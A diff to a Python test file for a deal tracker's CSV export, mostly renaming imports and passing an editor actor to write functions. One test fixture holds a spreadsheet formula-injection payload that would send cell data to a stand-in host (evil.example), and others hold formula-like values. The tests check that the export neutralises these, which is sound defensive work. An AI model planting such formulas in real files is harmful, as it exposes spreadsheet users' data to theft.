@@ -10,15 +10,16 @@ import pytest
 from sqlalchemy import Engine
 
 from benchmarks.generate import generate
+from tracker.auth import Actor
 from tracker.domain.vocab import Role
-from tracker.editing import delete_deal
 from tracker.exports import EXPORT_COLUMNS, export_bytes, export_csv, neutralise, write_csv
-from tracker.queries import DealFilters, iter_deals
-from tracker.services import add_platform, create_deal
+from tracker.read.filters import DealFilters
+from tracker.read.rows import iter_deals
 from tracker.store.db import make_session_factory, transaction
-from tracker.write.auth import Actor
+from tracker.write.catalogue import add_platform
+from tracker.write.deals import add_deal, delete_deal
 
-from factories import deal_data
+from factories import EDITOR, deal_data
 
 REQUIRED_COLUMNS = [
     "deal_id",
@@ -59,7 +60,7 @@ def test_csv_is_utf8_with_bom_and_documented_header(seeded_sqlite: Engine) -> No
 def test_formula_in_notes_is_neutralised_on_the_bytes(seeded_sqlite: Engine) -> None:
     evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     with transaction(seeded_sqlite) as s:
-        create_deal(session=s, deal_in=deal_data(notes=evil, programme="+1 programme"))
+        add_deal(actor=EDITOR, session=s, deal_in=deal_data(notes=evil, programme="+1 programme"))
     with make_session_factory(seeded_sqlite)() as s:
         data = export_bytes(s, DealFilters(text="HYPERLINK"), "csv")
     assert b"'=HYPERLINK(" in data
@@ -102,7 +103,8 @@ def test_unknowns_export_as_empty_not_zero(seeded_sqlite: Engine) -> None:
 
 def test_money_keeps_its_decimal_digits(seeded_sqlite: Engine) -> None:
     with transaction(seeded_sqlite) as s:
-        create_deal(
+        add_deal(
+            actor=EDITOR,
             session=s,
             deal_in=deal_data(
                 value_amount="1234567890123.45", value_currency="EUR", notes="precise"
@@ -127,8 +129,11 @@ def varied_engine(seeded_engine: Engine) -> Engine:
     """Seeds, 300 synthetic deals, a deleted deal and text that needs neutralising."""
     generate(seeded_engine, deals=300, seed=7)
     with transaction(seeded_engine) as s:
-        add_platform(session=s, platform_in={"designation": "-9 Drone", "category": "aircraft"})
-        create_deal(
+        add_platform(
+            actor=EDITOR, session=s, platform_in={"designation": "-9 Drone", "category": "aircraft"}
+        )
+        add_deal(
+            actor=EDITOR,
             session=s,
             deal_in=deal_data(
                 platform="-9 Drone", notes="=1+1", programme="@SUM(A1)", ref="+ref",
@@ -136,7 +141,7 @@ def varied_engine(seeded_engine: Engine) -> Engine:
                 value_year=2024, quantity_unit="-batteries",
             ),
         )  # fmt: skip
-        doomed = create_deal(session=s, deal_in=deal_data(notes="deleted later"))
+        doomed = add_deal(actor=EDITOR, session=s, deal_in=deal_data(notes="deleted later"))
     with transaction(seeded_engine) as s:
         delete_deal(
             session=s, actor=Actor("erin", Role.EDITOR, 1), deal_id=doomed.id, seen_version=1
